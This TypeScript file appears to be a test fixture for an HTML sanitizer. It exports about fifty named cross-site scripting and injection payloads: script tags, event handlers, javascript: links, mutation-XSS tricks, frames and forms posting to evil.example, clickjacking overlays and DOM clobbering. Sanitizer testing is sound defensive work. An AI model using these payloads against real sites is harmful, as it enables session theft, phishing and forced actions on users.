/** Markup that tries to run, to load, to cover the page or to leave it. Each tells `__pwned` if it runs. */
export interface Payload {
  readonly name: string;
  readonly html: string;
}

const evil = 'https://evil.example';
const run = '__pwned(1)';

const payloads: Readonly<Record<string, string>> = {
  script: `<script>${run}</script>`,
  'script from elsewhere': `<script src="${evil}/a.js"></script>`,
  'script in odd case with junk': `<ScRiPt/x y=z >${run}</sCrIpT\t>`,
  'nested script': `<scr<script>ipt>${run}</scr</script>ipt>`,
  'module preload': `<link rel="modulepreload" href="${evil}/m.js"><link rel="preconnect" href="${evil}">`,
  'error handler': `<img src=x onerror=${run}>`,
  'error handler after a slash': `<img/src='x'/onerror='${run}'>`,
  'handler with a newline in its name': `<img src=x on\nerror=${run} onerror\n=${run}>`,
  'handler behind a quote': `<img alt="\`><img src=x onerror=${run}>" src="x">`,
  'handler on focus': `<a href="#" id=x tabindex=1 autofocus onfocus=${run}>x</a>`,
  'handler on animation': `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${run}">x</p>`,
  'handler on pointer': `<p onpointerenter=${run} onmouseover=${run} onclick=${run}>over here</p>`,
  'details that toggle': `<details open ontoggle=${run}><summary>x</summary>y</details>`,
  'body with handlers': `<body onload=${run} onpageshow=${run} background="${evil}/b">x</body>`,
  'javascript link': `<a href="javascript:${run}">press</a>`,
  'javascript link in pieces': `<a href="jav&#x09;ascript&colon;${run}">press</a>`,
  'javascript link behind a control': `<a href="&#1;&#x20;JaVaScRiPt:${run}">press</a>`,
  'data link': `<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZCgxKTwvc2NyaXB0Pg==">press</a>`,
  'vbscript and blob links': `<a href="vbscript:${run}">a</a><a href="blob:${evil}/1">b</a>`,
  'svg with script': `<svg onload=${run}><script>${run}</script><image href="${evil}/i.png"/></svg>`,
  'svg animation to javascript': `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>press</text></a></svg>`,
  'svg use': `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`,
  'svg picture': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  'mutation through math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  'mutation through noscript': `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  'mutation through a select': `<select><style></select><img src=x onerror=${run}></style>`,
  'mutation through a foreign style': `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  'comment that ends early': `<!--><img src=x onerror=${run}>--><!--!><script>${run}</script>-->`,
  'CDATA that is none': `<![CDATA[<img src=x onerror=${run}>]]><?xml <img src=x onerror=${run}> ?>`,
  'frame with a document': `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  'frame of elsewhere': `<iframe src="${evil}/f"></iframe><frameset><frame src="${evil}/g"></frameset>`,
  'frame of javascript': `<iframe src="javascript:parent.${run}"></iframe>`,
  'object and embed': `<object data="${evil}/o"></object><embed src="${evil}/e"><applet code="${evil}/p">`,
  'form that posts': `<form action="${evil}" id=f><input name=password><button formaction="javascript:${run}">ok</button></form><button form=f>ok</button>`,
  'base and refresh': `<base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/r">`,
  'style sheets': `<style>@import "${evil}/s.css";body{display:none}</style><link rel="stylesheet" href="${evil}/t.css">`,
  'style that loads': `<p style="background:url(${evil}/u);list-style-image:url('${evil}/v');content:url(${evil}/w)">x</p>`,
  'style that loads by escapes': `<p style="background:\\75rl(${evil}/x);background-image:image-set('${evil}/y' 1x)">x</p>`,
  'style that covers': `<a href="${evil}/login" style="position:fixed;inset:0;z-index:9999;opacity:0">x</a>`,
  'pictures of every kind': `<img src="${evil}/1.png" srcset="${evil}/2.png 2x" lowsrc="${evil}/3.png"><picture><source srcset="${evil}/4.png"><img></picture>`,
  'picture that acts on this site': `<img src="/api/auth/customer/sign-out"><img src="//evil.example/5.png">`,
  'sound and film': `<video src="${evil}/v" poster="${evil}/p" autoplay></video><audio src="${evil}/a" onerror=${run}></audio><track src="${evil}/t">`,
  'old ways to load': `<table background="${evil}/b"><td background="${evil}/c">x</table><bgsound src="${evil}/d"><input type=image src="${evil}/e">`,
  'names that shadow': `<a id=location name=location href="${evil}"></a><img name=cookie><form name=body><input name=attributes></form>`,
  'shadow root': `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
  'ping and prefetch': `<a href="${evil}/ok" ping="${evil}/ping">x</a><link rel=prefetch href="${evil}/pre"><link rel=dns-prefetch href="//evil.example">`,
  'words that never end': `<textarea><title><xmp><plaintext><img src=x onerror=${run}>`,
  'attribute that never ends': `<p title="<img src=x onerror=${run}>`,
};

export const hostilePayloads: readonly Payload[] = Object.entries(payloads).map(([name, html]) => ({
  name,
  html,
}));
